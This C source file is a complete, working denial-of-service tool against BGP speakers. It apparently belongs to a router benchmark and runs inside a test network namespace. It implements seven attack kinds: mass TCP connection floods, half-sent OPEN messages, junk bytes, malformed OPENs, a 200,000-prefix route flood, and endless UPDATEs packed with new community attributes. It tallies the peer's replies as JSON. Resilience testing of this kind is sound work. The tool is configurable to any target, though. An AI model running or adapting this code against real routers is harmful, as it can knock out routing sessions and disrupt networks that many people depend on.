/*
 * attacker - bothers a BGP speaker in one way, over and over, until it is told to stop (SIGTERM, SIGINT).
 *
 * It runs beside rrbench, in the same namespace, from addresses of its own. It does not judge: it counts what it did
 * and how it was answered, and prints that as JSON. What the honest clients noticed of it is rrbench's to say.
 *
 * A connection that ends is made again; --rate bounds how many are made in a second. Those that speak BGP to the end
 * of the handshake (prefixes, attributes) then write as fast as they are read.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

#define MSGMAX 4096
#define MARKER 16
#define PREFIXES 200000               /* of the attack of that name */
#define BOMB_PREFIXES 64              /* fewer than any limit: the attributes are the attack */
#define NEXT_HOP 0x0aca0001u          /* 10.202.0.1 + source, wherever it really is */
#define RETRY_S 0.05                  /* between the end of a connection and the next one in its place */

enum { OPEN = 1, UPDATE, NOTIFICATION, KEEPALIVE };
enum kind { CONNECTIONS, STRANGERS, HALF_OPEN, ZEROS, BAD_OPENS, MANY_PREFIXES, ATTRIBUTES };
static const struct attack {
	const char *name, *base;          /* address of the first source */
	uint32_t sources, slots;          /* addresses, and connections at a time, spread over them */
} attacks[] = {
	[CONNECTIONS]   = { "connections", "10.202.0.1", 1, 10000 },   /* never says a word */
	[STRANGERS]     = { "strangers", "127.1.0.1", 250, 1000 },     /* the same, from addresses that nobody accepts */
	[HALF_OPEN]     = { "half-open", "10.202.0.1", 200, 1000 },    /* half an OPEN, then silence */
	[ZEROS]         = { "zeros", "10.202.0.1", 50, 50 },           /* 4,096 bytes of zeros */
	[BAD_OPENS]     = { "bad-opens", "10.202.0.1", 100, 100 },     /* version 3 and hold time 1, in turn */
	[MANY_PREFIXES] = { "prefixes", "10.202.0.1", 10, 10 },        /* 200,000 prefixes */
	[ATTRIBUTES]    = { "attributes", "10.202.0.1", 4, 4 },        /* UPDATEs without end, each with 4 KB of new attributes */
};
#define KINDS (sizeof attacks / sizeof *attacks)

struct slot {
	int fd;                           /* -1: none */
	bool connected, greeted, up, wants_write;
	double retry;                     /* not before */
	uint32_t inlen;
	size_t outlen, outoff;
	uint8_t *in, *out;                /* `out` is the slot's own buffer, or the stream that all share */
};

static enum kind kind;
static struct slot *slots;
static uint32_t nslots, nsources, as = 64512;
static struct sockaddr_in server, base;
static uint8_t *stream;               /* the UPDATEs of `prefixes` */
static size_t stream_len;
static int ep;
static volatile sig_atomic_t stop;
static struct { uint64_t made, failed, established, closed, reset, sent, answers[8][16]; } count;

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return (double)t.tv_sec + 1e-9 * (double)t.tv_nsec; }
static uint8_t *w16(uint8_t *p, uint32_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; return p + 2; }
static uint8_t *w32(uint8_t *p, uint32_t v) { return w16(w16(p, v >> 16), v & 0xffff); }
static void *alloc(size_t n) { void *p = calloc(1, n); if (!p) { perror("calloc"); exit(2); } return p; }

/* ---- messages ------------------------------------------------------------------------------- */

static uint8_t *begin(uint8_t *p, uint8_t type) { memset(p, 0xff, MARKER); p[18] = type; return p + 19; }
static size_t end(uint8_t *p, uint8_t *q) { w16(p + MARKER, (uint32_t)(q - p)); return (size_t)(q - p); }

static size_t put_open(uint8_t *p, uint32_t source, uint8_t version, uint32_t hold)
{
	static const uint8_t caps[] = { 2, 14, 1, 4, 0, 1, 0, 1, 2, 0, 65, 4 };   /* MP IPv4, route refresh, 4-octet AS */
	uint8_t *q = begin(p, OPEN);
	*q++ = version;
	q = w32(w16(w16(q, as > 65535 ? 23456 : as), hold), ntohl(base.sin_addr.s_addr) + source);
	*q++ = sizeof caps + 4;
	memcpy(q, caps, sizeof caps);
	return end(p, w32(q + sizeof caps, as));
}

/* The attributes that a route needs, LOCAL_PREF included. */
static uint8_t *put_attributes(uint8_t *q, uint32_t source)
{
	static const uint8_t origin_path[] = { 0x40, 1, 1, 0, 0x40, 2, 0, 0x40, 3, 4 }, preference[] = { 0x40, 5, 4, 0, 0, 0, 100 };
	memcpy(q, origin_path, sizeof origin_path);
	q = w32(q + sizeof origin_path, NEXT_HOP + source);
	memcpy(q, preference, sizeof preference);
	return q + sizeof preference;
}

static void make_stream(void)                         /* 200,000 /32 from 198.18.0.0 on, in UPDATEs that are full */
{
	uint8_t *q = stream = alloc(PREFIXES * 5 + (PREFIXES / 700 + 1) * 64);
	for (uint32_t k = 0; k < PREFIXES;) {
		uint8_t *p = q, *length;
		q = w16(begin(p, UPDATE), 0);
		length = q;
		q = put_attributes(q + 2, 0);
		w16(length, (uint32_t)(q - length - 2));
		for (; k < PREFIXES && q - p + 5 <= MSGMAX; k++) { *q++ = 32; q = w32(q, 0xc6120000u + k); }
		end(p, q);
	}
	stream_len = (size_t)(q - stream);
}

static size_t put_bomb(uint8_t *p, uint32_t source)   /* one prefix; communities that were never there before */
{
	static uint32_t serial, bombs;
	uint8_t *q = w16(begin(p, UPDATE), 0), *length = q, *size;
	q = put_attributes(q + 2, source);
	*q++ = 0xd0; *q++ = 8; size = q; q += 2;
	while (q - p + 4 + 5 <= MSGMAX) q = w32(q, 0x10000u + serial++ % 0xfff00000u);
	w16(size, (uint32_t)(q - size - 2));
	w16(length, (uint32_t)(q - length - 2));
	*q++ = 32; q = w32(q, 0xc6120000u + bombs++ % BOMB_PREFIXES);
	return end(p, q);
}

/* ---- one connection ------------------------------------------------------------------------- */

static uint32_t source_of(const struct slot *s) { return (uint32_t)(s - slots) % nsources; }

static void arm(struct slot *s, int op, bool write)
{
	struct epoll_event e = { .events = EPOLLIN | (write ? EPOLLOUT : 0), .data.u32 = (uint32_t)(s - slots) };
	if (epoll_ctl(ep, op, s->fd, &e)) { perror("epoll_ctl"); exit(2); }
	s->wants_write = write;
}

static void drop(struct slot *s)
{
	close(s->fd);
	s->fd = -1; s->connected = s->greeted = s->up = false;
	s->inlen = 0; s->outlen = s->outoff = 0; s->retry = now() + RETRY_S;
}

static void start(struct slot *s)
{
	struct linger abort_it = { 1, 0 };                /* no TIME_WAIT: the ports of one address would run out */
	struct sockaddr_in a = base;
	int one = 1;
	a.sin_addr.s_addr = htonl(ntohl(base.sin_addr.s_addr) + source_of(s));
	a.sin_port = 0;
	s->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (s->fd < 0) { perror("attacker: socket"); exit(2); }
	setsockopt(s->fd, SOL_SOCKET, SO_LINGER, &abort_it, sizeof abort_it);
	setsockopt(s->fd, SOL_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
	setsockopt(s->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
	if (bind(s->fd, (void *)&a, sizeof a)) { perror("attacker: bind (run it inside ./ns.sh)"); exit(2); }
	count.made++;
	if (connect(s->fd, (void *)&server, sizeof server) && errno != EINPROGRESS) { count.failed++; drop(s); return; }
	arm(s, EPOLL_CTL_ADD, true);
}

/* What is said once the connection stands. */
static void greet(struct slot *s)
{
	static uint32_t opens;
	if (!s->out && kind > STRANGERS) s->out = alloc(MSGMAX);
	switch (kind) {
	case CONNECTIONS: case STRANGERS: break;
	case HALF_OPEN: s->outlen = put_open(s->out, source_of(s), 4, 240) / 2; break;
	case ZEROS: s->outlen = MSGMAX; break;
	case BAD_OPENS: s->outlen = opens++ & 1 ? put_open(s->out, source_of(s), 3, 240) : put_open(s->out, source_of(s), 4, 1); break;
	case MANY_PREFIXES: case ATTRIBUTES: s->outlen = put_open(s->out, source_of(s), 4, 240); break;
	}
	s->greeted = true;
}

static bool more(struct slot *s)                      /* the next piece of an attack that has no end */
{
	if (!s->up || kind != ATTRIBUTES || stop) return false;
	s->outlen = put_bomb(s->out, source_of(s)); s->outoff = 0;
	return true;
}

static void flush(struct slot *s)
{
	do while (s->outoff < s->outlen) {
		const uint8_t *from = s->up && kind == MANY_PREFIXES ? stream : s->out;
		ssize_t r = send(s->fd, from + s->outoff, s->outlen - s->outoff, MSG_NOSIGNAL);
		if (r < 0 && errno != EAGAIN) return;         /* what the other end said last is still to be read */
		if (r < 0) { if (!s->wants_write) arm(s, EPOLL_CTL_MOD, true); return; }
		s->outoff += (size_t)r; count.sent += (uint64_t)r;
	} while (more(s));
	if (s->wants_write) arm(s, EPOLL_CTL_MOD, false);
}

static void on_msg(struct slot *s, const uint8_t *p, uint32_t len)
{
	uint8_t b[MSGMAX];
	if (p[18] == NOTIFICATION && len >= 21) count.answers[p[19] & 7][p[20] & 15]++;
	if (p[18] == OPEN && kind >= MANY_PREFIXES) {
		size_t n = end(b, begin(b, KEEPALIVE));
		memcpy(s->out, b, n); s->outlen = n; s->outoff = 0;
		flush(s);
	}
	if (p[18] == KEEPALIVE && kind >= MANY_PREFIXES && !s->up) {
		s->up = true; count.established++;
		s->outoff = 0; s->outlen = kind == MANY_PREFIXES ? stream_len : 0;
		flush(s);
	}
}

/* Returns false when the connection is over. */
static bool on_read(struct slot *s)
{
	static uint8_t buf[65536 + MSGMAX];
	uint32_t off = 0, len, m;
	ssize_t r;
	if (s->inlen) memcpy(buf, s->in, s->inlen);
	r = recv(s->fd, buf + s->inlen, 65536, 0);
	if (r < 0 && errno == EAGAIN) return true;
	if (r <= 0) { if (r) count.reset++; else count.closed++; return false; }
	for (len = s->inlen + (uint32_t)r; len - off >= 19; off += m) {
		m = (uint32_t)buf[off + 16] << 8 | buf[off + 17];
		if (m < 19 || m > MSGMAX) return false;
		if (m > len - off) break;
		on_msg(s, buf + off, m);
	}
	s->inlen = len - off;
	if (s->inlen && !s->in) s->in = alloc(MSGMAX);
	if (s->inlen) memcpy(s->in, buf + off, s->inlen);
	return true;
}

static void on_event(struct slot *s, uint32_t events)
{
	int e = 0; socklen_t l = sizeof e;
	if (s->fd < 0) return;
	if (!s->connected) {
		getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &e, &l);
		if (e) { count.failed++; drop(s); return; }
		s->connected = true;
	}
	if (!s->greeted) greet(s);
	if (events & EPOLLOUT) flush(s);
	if (events & (EPOLLIN | EPOLLHUP | EPOLLERR) && !on_read(s)) drop(s);
}

/* ---- all of them ---------------------------------------------------------------------------- */

static void attack(double rate)
{
	struct epoll_event ev[256];
	double last = now(), credit = 0, t;
	uint32_t turn = 0;
	while (!stop) {
		int n = epoll_wait(ep, ev, 256, 2);
		for (int i = 0; i < n; i++) on_event(&slots[ev[i].data.u32], ev[i].events);
		t = now();
		credit += (t - last) * rate; last = t;
		if (credit > rate / 50) credit = rate / 50;   /* what a pause left undone is not made up for in a burst */
		for (uint32_t i = 0; i < nslots && credit >= 1; i++, turn++) {
			struct slot *s = &slots[turn % nslots];
			if (s->fd < 0 && s->retry <= t) { start(s); credit--; }
		}
	}
}

static void report(void)
{
	uint32_t open = 0; const char *comma = "";
	for (uint32_t i = 0; i < nslots; i++) open += slots[i].fd >= 0 && slots[i].connected;
	printf("{\"attack\":\"%s\",\"connections\":%lu,\"failed\":%lu,\"established\":%lu,\"closed\":%lu,\"reset\":%lu,\"open_at_end\":%u,\"sent_mb\":%.1f,\"notifications\":{",
		attacks[kind].name, count.made, count.failed, count.established, count.closed, count.reset, open, 1e-6 * (double)count.sent);
	for (int c = 0; c < 8; c++) for (int s = 0; s < 16; s++) if (count.answers[c][s]) { printf("%s\"%d/%d\":%lu", comma, c, s, count.answers[c][s]); comma = ","; }
	printf("}}\n");
}

static void end_it(int sig) { (void)sig; stop = 1; }

static void usage(void)
{
	fprintf(stderr, "usage: attacker KIND [--server ADDR:PORT] [--base ADDR] [--as AS] [--rate N]   until SIGTERM; then JSON on stdout\n"
		"  KIND: connections (10,000 from one address), strangers, half-open, zeros, bad-opens, prefixes, attributes\n"
		"  --server  what is attacked (10.200.0.1:179)    --base  first address of the attackers (by KIND)\n"
		"  --as      of an OPEN (64512)                   --rate  connections made in a second, at most (2000)\n");
	exit(2);
}

static void parse_server(const char *text)
{
	char host[32]; const char *colon = strchr(text, ':');
	if (!colon || (size_t)(colon - text) >= sizeof host) usage();
	snprintf(host, sizeof host, "%.*s", (int)(colon - text), text);
	server.sin_family = AF_INET; server.sin_port = htons((uint16_t)atoi(colon + 1));
	if (inet_pton(AF_INET, host, &server.sin_addr) != 1) usage();
}

int main(int argc, char **argv)
{
	static const struct option L[] = { { "server", 1, 0, 's' }, { "base", 1, 0, 'b' }, { "as", 1, 0, 'a' }, { "rate", 1, 0, 'r' }, { 0, 0, 0, 0 } };
	struct rlimit limit;
	const char *first = NULL;
	double rate = 2000;
	parse_server("10.200.0.1:179");
	for (int c; (c = getopt_long(argc, argv, "", L, NULL)) != -1;) switch (c) {
		case 's': parse_server(optarg); break;
		case 'b': first = optarg; break;
		case 'a': as = (uint32_t)strtoul(optarg, NULL, 10); break;
		case 'r': rate = atof(optarg); break;
		default: usage();
	}
	if (optind + 1 != argc || rate <= 0) usage();
	while (kind < KINDS && strcmp(attacks[kind].name, argv[optind])) kind++;
	if (kind == KINDS) usage();
	getrlimit(RLIMIT_NOFILE, &limit); limit.rlim_cur = limit.rlim_max; setrlimit(RLIMIT_NOFILE, &limit);
	base.sin_family = AF_INET;
	if (inet_pton(AF_INET, first ? first : attacks[kind].base, &base.sin_addr) != 1) usage();
	nslots = attacks[kind].slots; nsources = attacks[kind].sources;
	if (limit.rlim_cur < nslots + 16) { fprintf(stderr, "attacker: needs %u open files, may have %lu\n", nslots + 16, (unsigned long)limit.rlim_cur); return 2; }
	slots = alloc(nslots * sizeof *slots);
	for (uint32_t i = 0; i < nslots; i++) slots[i].fd = -1;
	if (kind == MANY_PREFIXES) make_stream();
	if ((ep = epoll_create1(EPOLL_CLOEXEC)) < 0) { perror("epoll_create1"); return 2; }
	signal(SIGPIPE, SIG_IGN); signal(SIGTERM, end_it); signal(SIGINT, end_it);
	attack(rate);
	report();
	return 0;
}
